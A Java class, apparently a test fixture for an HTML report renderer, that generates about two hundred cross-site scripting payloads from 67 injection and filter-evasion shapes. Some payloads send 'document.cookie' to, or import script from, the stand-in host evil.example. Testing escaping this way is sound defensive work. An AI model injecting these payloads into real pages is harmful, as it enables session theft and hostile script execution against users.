package foreshock.report;

import java.util.ArrayList;
import java.util.List;

/** Two hundred texts that try to become more than text in a page. */
final class Payloads {
  private static final List<String> ACTIONS =
      List.of("alert(1)", "fetch('//evil.example/'+document.cookie)", "import('//evil.example/x')");
  private static final List<String> SHAPES =
      List.of(
          "<script>%s</script>",
          "</script><script>%s</script>",
          "</style><script>%s</script>",
          "</title><script>%s</script>",
          "</svg><script>%s</script>",
          "</textarea><script>%s</script>",
          "<ScRiPt >%s</sCrIpT >",
          "<img src=x onerror=%s>",
          "<img src=x onerror=\"%s\">",
          "<svg onload=%s>",
          "<svg><script>%s</script></svg>",
          "<svg><animate onbegin=%s attributeName=x dur=1s>",
          "<body onload=%s>",
          "<iframe src=\"javascript:%s\">",
          "<iframe srcdoc=\"<script>%s</script>\">",
          "<a href=\"javascript:%s\">x</a>",
          "<object data=\"javascript:%s\">",
          "<embed src=\"javascript:%s\">",
          "<form action=\"javascript:%s\"><button>",
          "<input autofocus onfocus=%s>",
          "<details open ontoggle=%s>",
          "<video><source onerror=%s>",
          "<math><mtext></p><script>%s</script>",
          "<link rel=stylesheet href=//evil.example/x.css onload=%s>",
          "<meta http-equiv=refresh content=\"0;url=javascript:%s\">",
          "<base href=//evil.example/ id=\"%s\">",
          "<style>@import '//evil.example/x';</style>%s",
          "\"><script>%s</script>",
          "'><script>%s</script>",
          "\" onmouseover=\"%s",
          "' onmouseover='%s",
          "` onmouseover=`%s",
          "\" autofocus onfocus=%s x=\"",
          "javascript:%s",
          "data:text/html,<script>%s</script>",
          "--><script>%s</script><!--",
          "]]><script>%s</script>",
          "<![CDATA[<script>%s</script>]]>",
          "<!--#exec cmd=\"%s\"-->",
          "&lt;script&gt;%s&lt;/script&gt;",
          "&#60;script&#62;%s&#60;/script&#62;",
          "\\u003cscript\\u003e%s\\u003c/script\\u003e",
          "{{constructor.constructor('%s')()}}",
          "${%s}",
          "@template.x(%s)",
          "$unsafe{\"%s\"}",
          "!{%s;}",
          "<x\u0000script>%s</script>",
          "<scr\u0000ipt>%s</scr\u0000ipt>",
          "\u202E<script>%s</script>\u202C",
          "\uFEFF<script>%s</script>",
          "<\u200Bscript>%s</script>",
          "\uFF1Cscript\uFF1E%s\uFF1C/script\uFF1E",
          "\u2028<script>%s</script>",
          "\u001B]0;%s\u0007<script>",
          "<script\n>%s</script\n>",
          "<script\t>%s</script\t>",
          "<script/x>%s</script/x>",
          "<<script>%s//<</script>",
          "<noscript><p title=\"</noscript><script>%s</script>\">",
          "<template><script>%s</script></template>",
          "<select><option><script>%s</script>",
          "<table background=\"javascript:%s\">",
          "<div style=\"background:url(javascript:%s)\">",
          "<div style=\"width:expression(%s)\">",
          "<svg><use href=\"data:image/svg+xml,<svg onload=%s>\"/>",
          "<foreignObject><script>%s</script></foreignObject>");

  private Payloads() {}

  static List<String> all() {
    List<String> all = new ArrayList<>();
    for (String shape : SHAPES) {
      ACTIONS.forEach(action -> all.add(shape.replace("%s", action)));
    }
    return all;
  }
}
